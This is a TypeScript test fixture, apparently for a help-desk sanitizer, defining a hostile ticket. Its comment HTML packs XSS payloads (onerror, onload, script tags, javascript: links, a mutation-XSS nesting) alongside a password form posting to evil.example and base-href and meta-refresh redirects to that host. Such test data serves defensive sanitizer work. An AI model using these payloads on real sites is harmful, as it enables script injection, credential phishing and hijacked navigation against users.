import type { DataFile } from "./zendesk/records.ts";

/** A help desk whose customers mean harm, or whose records are broken. */
export const hostileDesk: DataFile = {
  tickets: [
    {
      id: 9001,
      subject: `<img src=x onerror="document.title='pwned'"> Refund <b>now</b>`,
      description: "hostile",
      status: "open",
      updated_at: "2099-01-01T00:00:00Z",
      comments: [
        {
          public: true,
          html_body: `<div class="zd-comment">
            <p id="root" class="button button-primary" style="position:fixed;inset:0">Hello there</p>
            <script>document.title = "pwned"</script>
            <img src="x" onerror="document.title = 'pwned'">
            <img src="https://tracker.example/pixel.gif" width="1" height="1">
            <img src="https://pictures.example/cat.png" alt="a cat">
            <a href="javascript:document.title='pwned'">free money</a>
            <a href="https://example.com/offer">an offer</a>
            <form action="https://evil.example"><input name="password"><button>Log in</button></form>
            <iframe src="https://evil.example"></iframe>
            <svg onload="document.title='pwned'"><a xlink:href="javascript:alert(1)">x</a></svg>
            <math><mtext><table><mglyph><style><img src=x onerror="document.title='pwned'"></style></mglyph></table></mtext></math>
            <style>body { display: none }</style>
            <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
          </div>`,
        },
        { public: false, html_body: "<p>Do not answer this one.</p>" },
      ],
    },
  ],
};
